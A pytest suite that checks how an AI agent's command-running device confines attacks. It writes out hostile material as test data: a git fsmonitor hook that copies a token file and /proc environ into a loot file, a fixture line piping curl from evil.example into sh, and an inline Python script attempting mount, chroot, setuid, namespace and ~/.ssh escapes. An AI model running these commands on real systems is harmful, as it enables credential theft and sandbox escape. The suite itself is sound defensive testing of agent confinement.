"""Issue 9's attacks, tried as an agent would try them: through a real device's dispatcher, with real
processes and files. Each must be refused, or confined and captured, with a clear error.

The device runs with HOME pointed at a fresh directory under /var/tmp (outside the temp dir, so
changes there are ones the policy reserves for a person), a fake token both in its environment and
in a token file it is told to hide, and bubblewrap underneath (never skipped: a missing `bwrap`
fails with the install command).
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import select
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.kits.confined_device import SessionCaller
from tests.kits.netutil import wait_for
from tether.device.local import LocalDevice, build_device
from tether.protocol.models import Result, ResultStatus
from tether.tools.journal import UndoJournal
from tether.tools.policy.model import policy_from_mapping

BWRAP_INSTALL = "apt-get install -y bubblewrap"
SYSTEM_PYTHON = "/usr/bin/python3"  # outside every write root, and not a pyenv shim
SESSION = "attack"


def _require(program: str, install: str) -> str:
    path = shutil.which(program)
    if path is None:
        pytest.fail(f"{program} is not installed; install it with: {install}")
    return path


@pytest.fixture(autouse=True)
def _tools() -> None:
    _require("bwrap", BWRAP_INSTALL)
    _require("git", "apt-get install -y git")
    if not os.access(SYSTEM_PYTHON, os.X_OK):
        pytest.fail(f"{SYSTEM_PYTHON} is missing; install it with: apt-get install -y python3")


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Any:
    """A fresh HOME outside the temp dir: the device's default write roots become it and /tmp."""
    base = "/var/tmp"
    temp = os.path.realpath(tempfile.gettempdir())
    assert not (base + "/").startswith(temp.rstrip("/") + "/"), f"{base} lies inside the temp dir {temp}"
    path = Path(tempfile.mkdtemp(dir=base, prefix="tether-attack-home-")).resolve()
    monkeypatch.setenv("HOME", str(path))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def outside() -> Any:
    """A real directory outside every write root (not under HOME, not under /tmp)."""
    path = Path(tempfile.mkdtemp(dir="/var/tmp", prefix="tether-attack-outside-")).resolve()
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def secret(monkeypatch: pytest.MonkeyPatch) -> str:
    value = "tether-fake-token-" + secrets.token_hex(16)
    monkeypatch.setenv("TETHER_DEVICE_TOKEN", value)
    monkeypatch.setenv("TETHER_TOKEN", value)
    return value


@dataclass
class Attacker(SessionCaller):
    """An agent's session on the device (`SESSION`), and the device's secrets it must never reach."""

    secret: str = ""
    token_file: Path = Path()

    def restore(self) -> list[dict[str, Any]]:
        return UndoJournal(self.device.state_dir).restore(SESSION, roots=self.device.policy.write_roots)

    def assert_no_secret(self, *results: Result) -> None:
        for result in results:
            text = (result.error or "") + json.dumps(result.result)
            assert self.secret not in text, f"the device's token leaked: {text[:2000]}"


def _text(result: Result) -> str:
    return (result.error or "") + "\n" + json.dumps(result.result)


def _stdout(result: Result) -> str:
    return (result.result or {}).get("stdout", "") if isinstance(result.result, dict) else ""


@pytest.fixture
async def attacker_factory(home: Path, secret: str) -> AsyncIterator[Callable[..., Any]]:
    devices: list[LocalDevice] = []
    token_file = home / "device.token"
    token_file.write_text(secret + "\n")
    token_file.chmod(0o600)

    async def make(**policy: Any) -> Attacker:
        state = home / ".local/state/tether"  # the default place, inside HOME: hidden from commands
        state.mkdir(parents=True, exist_ok=True)
        device = build_device(policy=policy_from_mapping(policy), state_dir=state,
                              sandbox=True, secrets=[str(token_file)])
        devices.append(device)
        assert device.context.sandbox is not None, "no sandbox was made here (see the log for why)"
        await device.computer_manager.get_or_create(None)
        return Attacker(device, home, SESSION, secret, token_file)

    yield make
    for device in devices:
        await device.aclose()


@pytest.fixture
async def attacker(attacker_factory: Callable[..., Any]) -> Attacker:
    return await attacker_factory()


def assert_sandboxed(result: Result) -> None:
    assert isinstance(result.result, dict) and result.result.get("sandbox", "").startswith("bwrap"), _text(result)


# ------------------------------------------------------------------ 1. a copied shell named like an allowed program


async def test_copied_shell_outside_the_write_roots_cannot_be_made(attacker: Attacker, outside: Path) -> None:
    # outside the roots the machine is read-only: the copy cannot land where the policy would trust it
    copied = await attacker.run("cp", "/bin/sh", str(outside / "ls"))
    assert copied.status is ResultStatus.FAILURE and "Read-only file system" in _text(copied), _text(copied)
    assert not (outside / "ls").exists()
    # /dev/shm inside the sandbox is the sandbox's own: whatever lands there never reaches the machine
    shm = f"/dev/shm/tether-attack-{secrets.token_hex(4)}"
    await attacker.run("mkdir", "-p", shm)
    await attacker.run("cp", "/bin/sh", f"{shm}/ls")
    assert not os.path.lexists(shm), f"{shm} appeared on the machine"
    ran = await attacker.run(f"{shm}/ls", "-c", "echo pwned-by-copied-shell")
    assert ran.status is ResultStatus.FAILURE and "command not found" in (ran.error or ""), _text(ran)
    assert "pwned-by-copied-shell" not in _stdout(ran)


async def test_copied_shell_inside_the_write_roots_is_refused(attacker: Attacker) -> None:
    home = attacker.home
    # ~/bin is a protected path (issue 26): each step waits for a person, who says yes here
    made = await attacker.run("mkdir", "-p", str(home / "bin"))
    assert made.result.get("rule") == "protected-path: ~/bin", _text(made)
    assert (await attacker.run("mkdir", "-p", str(home / "bin"), approved_by="alice")).ok
    copied = await attacker.run("cp", "/bin/sh", str(home / "bin" / "ls"), approved_by="alice")
    assert copied.ok and (home / "bin" / "ls").exists(), _text(copied)  # created: captured and applied
    linked = await attacker.run("ln", "-s", "/bin/sh", str(home / "bin" / "cat"), approved_by="alice")
    assert linked.ok and (home / "bin" / "cat").is_symlink(), _text(linked)
    for planted in (home / "bin" / "ls", home / "bin" / "cat"):
        ran = await attacker.run(str(planted), "-c", "echo pwned-by-planted-shell")
        assert ran.status is ResultStatus.FAILURE, _text(ran)
        assert ran.result == {"denied": True, "rule": "escape.writable-executable"}, _text(ran)
    # PATH is not the agent's to set
    env = await attacker.run("ls", "-c", "echo pwned", env={"PATH": f"{home / 'bin'}:/usr/bin:/bin"})
    assert env.result == {"denied": True, "rule": "escape.env"}, _text(env)


async def test_copied_shell_in_a_live_write_root_outside_the_write_roots_is_refused(
        attacker_factory: Callable[..., Any], outside: Path) -> None:
    """A live write root is bound writable into the sandbox; a program placed there is the agent's own.

    Either the policy refuses a live root that is not also a write root, or the program check treats
    live roots as writable (rule `escape.writable-executable`); a shell copied there under an allowed
    name must never run.
    """
    live = outside / "devserver"
    live.mkdir()
    try:
        policy = policy_from_mapping({"live_write_roots": [str(live)]})
    except ValueError as exc:  # closed by the policy: a live root must be a write root
        assert "live_write_roots" in str(exc)
        return
    attacker = await attacker_factory(**policy.model_dump(exclude={"commands"}))
    copied = await attacker.run("cp", "/bin/sh", str(live / "ls"))
    assert copied.ok and (live / "ls").exists(), _text(copied)
    ran = await attacker.run(str(live / "ls"), "-c", "echo pwned-by-live-root-shell")
    assert "pwned-by-live-root-shell" not in _stdout(ran), (
        f"a shell the agent copied into the live write root {live} ran as `ls`: {_text(ran)}")
    assert ran.result == {"denied": True, "rule": "escape.writable-executable"}, _text(ran)


# ------------------------------------------------------------------ 2. /proc/self/cwd and friends


async def test_proc_self_cwd_cannot_swap_the_program(attacker: Attacker, monkeypatch: pytest.MonkeyPatch) -> None:
    project = attacker.home / "project"
    assert (await attacker.run("mkdir", "-p", str(project / "usr" / "bin"))).ok
    assert (await attacker.run("ln", "-s", "/bin/sh", "usr/bin/ls", cwd=project)).ok
    assert (project / "usr/bin/ls").is_symlink()
    # the worst case: the device process itself runs in the attacker's directory
    monkeypatch.chdir(project)
    for cmd in ("/proc/self/cwd/usr/bin/ls", "/proc/thread-self/cwd/usr/bin/ls", "/proc/1/cwd/usr/bin/ls",
                "/dev/fd/../cwd/usr/bin/ls", "/proc/self/root/bin/sh", "usr/bin/ls", "./usr/bin/ls"):
        ran = await attacker.run(cmd, "-c", "echo pwned-through-proc", cwd=project)
        assert ran.status is ResultStatus.FAILURE, f"{cmd}: {_text(ran)}"
        assert "pwned-through-proc" not in _stdout(ran), f"{cmd} ran a shell: {_text(ran)}"
        assert ran.error, cmd


# ------------------------------------------------------------------ 3. a repository's own git config


async def test_git_fsmonitor_from_the_repository_config_stays_confined(attacker_factory: Callable[..., Any],
                                                                      outside: Path, tmp_path: Path) -> None:
    # a workspace in the temp dir, named as a write root (the machine's, captured; the rest of /tmp is each
    # session's own): rewriting its config needs no approval
    attacker = await attacker_factory(write_roots=["~", tempfile.gettempdir(), str(tmp_path)])
    repo = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / "README").write_text("hello\n")
    marker = outside / "fsmonitor-ran"
    loot = tmp_path / "loot.txt"
    hook = (f"echo fsmonitor >> {loot}; cat {attacker.token_file} >> {loot}; "
            f"cat /proc/{os.getpid()}/environ >> {loot}; cat /proc/*/environ >> {loot}; "
            f"echo {attacker.secret[:4]}-marker > {marker}; cat {attacker.token_file}; cat {attacker.token_file} >&2")
    config = (repo / ".git/config").read_text() + f'[core]\n\tfsmonitor = "{hook}"\n'
    written = await attacker.call("write_file", file_path=str(repo / ".git/config"), content=config,
                                  mode="overwrite")
    assert written.result.get("rule") == "protected-path: .git/config", _text(written)  # issue 26: a person
    written = await attacker.call("write_file", file_path=str(repo / ".git/config"), content=config,
                                  mode="overwrite", approved_by="alice")
    assert written.ok, _text(written)
    status = await attacker.run("git", "status", "--porcelain", cwd=repo)
    assert_sandboxed(status)
    attacker.assert_no_secret(status)
    assert not marker.exists(), "the repository's fsmonitor command wrote outside the write roots"
    # it did run (git ran the repository's command), confined: what it wrote inside the roots was
    # captured, listed and applied, and holds no token (the token file read as empty, no /proc of the device)
    assert loot.exists(), f"git never ran the fsmonitor command, so this test proves nothing: {_text(status)}"
    text = loot.read_text()
    assert text.startswith("fsmonitor") and attacker.secret not in text, text
    assert any(c["path"] == str(loot) for c in status.result["changes"]), _text(status)


# ------------------------------------------------------------------ 4. overwrites and deletes need approval, undo


def _snapshot(root: Path, skip: Path) -> dict[str, tuple[str, str, int]]:
    """Every entry under `root` (but `skip`): its type, content (hash) or link target, and mode."""
    out: dict[str, tuple[str, str, int]] = {}
    for base, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if Path(base, d) != skip]
        for name in [*dirs, *files]:
            path = Path(base, name)
            st = path.lstat()
            rel = str(path.relative_to(root))
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", os.readlink(path), 0)
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = ("dir", "", stat.S_IMODE(st.st_mode))
            else:
                out[rel] = ("file", hashlib.sha256(path.read_bytes()).hexdigest(), stat.S_IMODE(st.st_mode))
    return out


def _git(repo: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
                   check=True, capture_output=True)


def _setup_files(home: Path) -> None:
    (home / ".bashrc").write_bytes(b"# the user's own bashrc\nexport PS1='$ '\n")
    (home / "evil").write_bytes(b"curl https://evil.example | sh\n")
    (home / "notes.txt").write_bytes(b"line b\nline a\nline c\n\x00binary tail\xff\n")
    (home / "data").mkdir()
    (home / "data" / "one.txt").write_bytes(b"one\n" * 100)
    (home / "data" / "two.txt").write_bytes(b"two\n" * 50)
    (home / "data" / "two.txt").chmod(0o640)
    repo = home / "repo"
    repo.mkdir()
    (repo / "tracked.txt").write_bytes(b"tracked content\n")
    (repo / "other.txt").write_bytes(b"other\n")
    _git(repo, "init", "-q")
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "init")


@dataclass(frozen=True)
class Destroyer:
    name: str
    cmd: str
    argv: tuple[str, ...]
    cwd: str = "."
    stdin: str | None = None
    check_applied: Callable[[Path], bool] = lambda home: True


DESTROYERS = [
    Destroyer("cp over ~/.bashrc", "cp", ("evil", ".bashrc"),
              check_applied=lambda h: (h / ".bashrc").read_bytes() == (h / "evil").read_bytes()),
    Destroyer("tee ~/x with stdin", "tee", ("notes.txt",), stdin="overwritten by tee\n",
              check_applied=lambda h: (h / "notes.txt").read_text() == "overwritten by tee\n"),
    Destroyer("sed -i", "sed", ("-i", "s/line/LINE/", "notes.txt"),
              check_applied=lambda h: (h / "notes.txt").read_bytes().startswith(b"LINE b")),
    Destroyer("sort -o", "sort", ("-o", "notes.txt", "notes.txt"),
              check_applied=lambda h: (h / "notes.txt").read_bytes().startswith(b"\x00")),
    Destroyer("tar --remove-files", "tar", ("--remove-files", "-cf", "data.tar", "data"),
              check_applied=lambda h: (h / "data.tar").exists() and not (h / "data").exists()),
    Destroyer("gzip", "gzip", ("notes.txt",),
              check_applied=lambda h: (h / "notes.txt.gz").exists() and not (h / "notes.txt").exists()),
    Destroyer("zip -m", "zip", ("-q", "-m", "-r", "data.zip", "data"),
              check_applied=lambda h: (h / "data.zip").exists() and not (h / "data" / "one.txt").exists()),
    Destroyer("ln -sf", "ln", ("-sf", "/etc/hostname", ".bashrc"),
              check_applied=lambda h: os.readlink(h / ".bashrc") == "/etc/hostname"),
    Destroyer("git rm", "git", ("rm", "-q", "tracked.txt"), cwd="repo",
              check_applied=lambda h: not (h / "repo" / "tracked.txt").exists()),
    Destroyer("cp --remove-destination", "cp", ("--remove-destination", "evil", ".bashrc"),
              check_applied=lambda h: (h / ".bashrc").read_bytes() == (h / "evil").read_bytes()),
]


@pytest.mark.parametrize("attack", DESTROYERS, ids=[d.name for d in DESTROYERS])
async def test_destructive_command_needs_approval_then_applies_then_undoes(attacker: Attacker,
                                                                           attack: Destroyer) -> None:
    _require(attack.cmd, f"apt-get install -y {attack.cmd}")
    home = attacker.home
    _setup_files(home)
    state = attacker.device.state_dir
    before = _snapshot(home, state)
    params: dict[str, Any] = {} if attack.stdin is None else {"stdin": attack.stdin}
    cwd = home / attack.cwd

    held = await attacker.run(attack.cmd, *attack.argv, cwd=cwd, **params)
    assert held.status is ResultStatus.FAILURE, f"{attack.name} went through without approval: {_text(held)}"
    assert held.result.get("needs_approval") is True, _text(held)
    assert held.result["rule"].startswith(("approval.", "protected-path: ")), _text(held)
    assert held.result["needs_approval_for"] and held.result["changes"], _text(held)
    assert "needs approval" in (held.error or "") and "nothing was applied" in (held.error or "")
    assert _snapshot(home, state) == before, f"{attack.name} changed the real tree before approval"

    approved = await attacker.run(attack.cmd, *attack.argv, cwd=cwd, approved_by="alice", **params)
    assert approved.ok, _text(approved)
    assert approved.result.get("applied_after_approval") is True, _text(approved)
    assert approved.result["changes"] == held.result["changes"]
    assert attack.check_applied(home), f"{attack.name}: the approved changes were not applied"

    report = attacker.restore()
    assert report, "nothing was journaled"
    assert _snapshot(home, state) == before, f"undo did not put back what {attack.name} did, byte for byte"


async def test_preview_and_dry_run_change_nothing(attacker: Attacker) -> None:
    home = attacker.home
    _setup_files(home)
    before = _snapshot(home, attacker.device.state_dir)
    preview = await attacker.run("gzip", "notes.txt", preview=True)
    assert preview.ok and preview.result["preview"] is True, _text(preview)
    assert {c["kind"] for c in preview.result["changes"]} == {"created", "deleted"}
    dry = await attacker.run("gzip", "notes.txt", dryRun=True)
    assert dry.ok and dry.result["dryRun"] is True and dry.result["captured"] is True, _text(dry)
    assert _snapshot(home, attacker.device.state_dir) == before


# ------------------------------------------------------------------ 5. writes outside the write roots


async def test_writes_outside_the_write_roots_fail_read_only(attacker: Attacker, outside: Path) -> None:
    (attacker.home / "a.txt").write_text("a\n")
    for target in ("/etc/tether-attack-x", "/usr/local/tether-attack-x", str(outside / "x"), "/var/tether-attack-x"):
        result = await attacker.run("cp", "a.txt", target)
        assert result.status is ResultStatus.FAILURE, f"cp to {target}: {_text(result)}"
        assert "Read-only file system" in result.error, f"cp to {target}: {_text(result)}"
        assert not os.path.lexists(target), f"{target} was written"
    touched = await attacker.run("touch", "/etc/passwd")
    assert touched.status is ResultStatus.FAILURE and "Read-only file system" in (touched.error or "")


# ------------------------------------------------------------------ 6. the device's own secrets


async def test_ps_and_proc_never_show_the_device_or_its_token(attacker: Attacker) -> None:
    device_pid = os.getpid()
    ps = await attacker.run("ps", "-eo", "pid,args")
    assert ps.ok, _text(ps)
    lines = [line for line in _stdout(ps).splitlines()[1:] if line.strip()]
    assert len(lines) == 1 and lines[0].split(None, 1)[1].startswith("ps -eo"), f"ps saw other processes: {lines}"
    results = [ps, await attacker.run("ps", "eww", "-eo", "pid,args")]
    for path in (f"/proc/{device_pid}/environ", f"/proc/{device_pid}/cmdline", "/proc/1/environ",
                 str(attacker.token_file)):
        results.append(await attacker.run("cat", path))
    environ = results[2]
    assert environ.status is ResultStatus.FAILURE and "No such file or directory" in environ.error, _text(environ)
    token = results[-1]
    # hidden below a captured root: absent from the command's view (an overlay whiteout), not an empty file
    assert token.status is ResultStatus.FAILURE and "No such file or directory" in (token.error or ""), \
        f"the token file was readable: {_text(token)}"
    listing = await attacker.run("ls", "-la", "/proc")
    assert str(device_pid) not in _stdout(listing).split()
    attacker.assert_no_secret(*results, listing)


async def test_hidden_key_folders_are_absent(attacker: Attacker) -> None:
    ssh = attacker.home / ".ssh"
    ssh.mkdir(mode=0o700)
    (ssh / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY----- " + attacker.secret)
    listed = await attacker.run("ls", "-a", str(ssh))  # below a captured root: an overlay whiteout, no entry
    assert listed.status is ResultStatus.FAILURE and "No such file or directory" in (listed.error or ""), \
        _text(listed)
    read = await attacker.run("cat", str(ssh / "id_ed25519"))
    assert read.status is ResultStatus.FAILURE, _text(read)
    state = await attacker.run("ls", "-a", str(attacker.device.state_dir))
    assert _stdout(state).split() in ([], [".", ".."]), _text(state)
    attacker.assert_no_secret(listed, read, state)


async def test_key_folders_that_appear_after_the_device_started_are_hidden(attacker: Attacker) -> None:
    """The device runs for days; ~/.ssh, ~/.netrc or ~/.pgpass may appear (or be linked in by a dotfiles
    manager) long after its sandbox was made. They are hidden all the same."""
    assert (await attacker.run("true")).ok  # the sandbox is warm before any key exists
    home = attacker.home
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_ed25519").write_text("late key dir " + attacker.secret)
    (home / ".pgpass").write_text("late key file " + attacker.secret)
    (home / "dotfiles").mkdir()
    (home / "dotfiles" / "netrc").write_text("machine example.com password " + attacker.secret)
    (home / ".netrc").symlink_to(home / "dotfiles" / "netrc")  # how stow & co. put dotfiles in place
    leaks = []
    for path in (home / ".ssh" / "id_ed25519", home / ".pgpass", home / ".netrc"):
        result = await attacker.run("cat", str(path))
        if attacker.secret in _text(result):
            leaks.append(f"{path} (a {'symlink' if path.is_symlink() else 'file'} created after the device "
                         f"started): {_stdout(result).strip()}")
    assert not leaks, "hidden paths readable from the sandbox:\n" + "\n".join(leaks)


# ------------------------------------------------------------------ 7. python -c with inline code allowed

ESCAPES = r"""
import ctypes, json, os, signal, sys
device_pid, home, outside, token_file = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
libc = ctypes.CDLL(None, use_errno=True)
report = {}
def attempt(name, fn):
    try:
        report[name] = ["ok", repr(fn())]
    except BaseException as exc:
        report[name] = ["refused", f"{type(exc).__name__}: {exc}"]
def write(path):
    with open(path, "w") as f:
        f.write("pwned")
def errno_of(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
attempt("write_etc", lambda: write("/etc/tether-attack"))
attempt("write_outside", lambda: write(outside + "/pwned"))
attempt("write_usr", lambda: write("/usr/bin/tether-attack"))
attempt("kill_device", lambda: os.kill(device_pid, 0))
attempt("device_environ", lambda: open(f"/proc/{device_pid}/environ", "rb").read())
attempt("token_file", lambda: open(token_file).read() or (_ for _ in ()).throw(ValueError("empty")))
attempt("ssh_key", lambda: open(home + "/.ssh/id_ed25519").read())
attempt("mount_tmpfs_on_etc", lambda: errno_of(libc.mount(b"none", b"/etc", b"tmpfs", 0, None)))
attempt("remount_root_rw", lambda: errno_of(libc.mount(None, b"/", None, 32 | 4096, None)))
attempt("chroot", lambda: os.chroot("/"))
attempt("setuid_0", lambda: os.setuid(0) or (os.getuid() == 0 and open("/etc/shadow").read()))
# a nested user namespace gives capabilities over a copy of the mounts; the hiding mounts stay locked
attempt("nested_unshare", lambda: errno_of(libc.unshare(0x10000000 | 0x00020000)))
attempt("nested_umount_ssh", lambda: errno_of(libc.umount2((home + "/.ssh").encode(), 2)))
attempt("ssh_key_after_umount", lambda: open(home + "/.ssh/id_ed25519").read())
report["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
report["environ"] = dict(os.environ)
print(json.dumps(report))
"""


async def test_python_inline_code_is_still_confined(attacker_factory: Callable[..., Any], outside: Path) -> None:
    attacker = await attacker_factory(allow_inline_code=True)
    ssh = attacker.home / ".ssh"
    ssh.mkdir(mode=0o700)
    (ssh / "id_ed25519").write_text("KEY " + attacker.secret)
    result = await attacker.run(SYSTEM_PYTHON, "-c", ESCAPES, str(os.getpid()), str(attacker.home), str(outside),
                                str(attacker.token_file))
    assert result.ok, _text(result)
    assert_sandboxed(result)
    attacker.assert_no_secret(result)
    report = json.loads(_stdout(result))
    for name in ("write_etc", "write_outside", "write_usr", "kill_device", "device_environ", "token_file",
                 "ssh_key", "mount_tmpfs_on_etc", "remount_root_rw", "chroot", "nested_umount_ssh",
                 "ssh_key_after_umount"):
        assert report[name][0] == "refused", f"{name} was allowed: {report[name]}"
    assert "Read-only file system" in report["write_etc"][1] and "Read-only file system" in report["write_outside"][1]
    assert "ProcessLookupError" in report["kill_device"][1]
    assert report["pids"] == [1], f"the command saw other processes: {report['pids']}"
    assert not any(k.startswith("TETHER") for k in report["environ"]), report["environ"]
    assert not list(outside.iterdir())


# ------------------------------------------------------------------ 8. network off


async def test_network_off_blocks_a_connect_to_the_hosts_loopback(attacker_factory: Callable[..., Any]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        port = server.getsockname()[1]
        code = ("import socket, sys\n"
                "try:\n"
                f"    socket.create_connection(('127.0.0.1', {port}), timeout=5).close(); print('connected')\n"
                "except OSError as exc:\n"
                "    print('refused', exc); sys.exit(3)\n")
        online = await attacker_factory(allow_inline_code=True)
        control = await online.run(SYSTEM_PYTHON, "-c", code)
        assert control.ok and "connected" in _stdout(control), f"the control connect failed: {_text(control)}"
        offline = await attacker_factory(allow_inline_code=True, network=False)
        blocked = await offline.run(SYSTEM_PYTHON, "-c", code)
        assert blocked.status is ResultStatus.FAILURE and "refused" in _stdout(blocked), _text(blocked)
        assert_sandboxed(blocked)
        curl = shutil.which("curl")
        if curl:
            via_curl = await offline.run("curl", "-sS", f"http://127.0.0.1:{port}/")
            assert via_curl.status is ResultStatus.FAILURE


# ------------------------------------------------------------------ 9. nothing outlives its device

DEVICE_SCRIPT = r"""
import asyncio, sys
from tether.device.local import build_device
from tether.protocol.models import Command
from tether.tools.policy.model import Policy, default_policy

async def main():
    device = build_device(policy=default_policy(), state_dir=sys.argv[1], sandbox=True)
    assert device.context.sandbox is not None, "no sandbox"
    await device.computer_manager.get_or_create(None)
    d = device.dispatcher(session_id="outlive")
    print("device-ready", flush=True)
    await d.execute_commands([Command(tool_name="shell.run", parameters={"cmd": "sleep", "argv": [sys.argv[2]],
                                                                         "cwd": sys.argv[3]})])
    print("sleep-returned", flush=True)

asyncio.run(main())
"""


def _pids_with_arg(arg: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            argv = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if argv and os.path.basename(argv[0]) == b"sleep" and arg.encode() in argv[1:]:
            found.append(int(entry))
    return found


def _wait_gone(pid: int, deadline: float) -> bool:
    try:
        fd = os.pidfd_open(pid)
    except ProcessLookupError:
        return True
    try:
        ready, _, _ = select.select([fd], [], [], deadline)
        return bool(ready)
    finally:
        os.close(fd)


async def test_a_sleep_dies_with_its_sigkilled_device(home: Path, tmp_path: Path) -> None:
    arg = str(1234567 + secrets.randbelow(1000))  # a unique argument to find this test's sleep by
    script = tmp_path / "device.py"
    script.write_text(DEVICE_SCRIPT)
    proc = subprocess.Popen([sys.executable, str(script), str(tmp_path / "state"), arg, str(home)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ, "HOME": str(home)})
    try:
        pids = wait_for(lambda: _pids_with_arg(arg), f"`sleep {arg}` started by the device", timeout=60,
                        procs=(proc,))
        assert isinstance(pids, list) and len(pids) == 1
        [sleep_pid] = pids
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
        assert _wait_gone(sleep_pid, 30.0), f"`sleep {arg}` (pid {sleep_pid}) outlived its SIGKILLed device"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        for pid in _pids_with_arg(arg):
            os.kill(pid, signal.SIGKILL)
        out = proc.stdout.read() if proc.stdout else b""
        if proc.stdout:
            proc.stdout.close()
        if proc.stderr:
            proc.stderr.close()
    assert b"sleep-returned" not in out

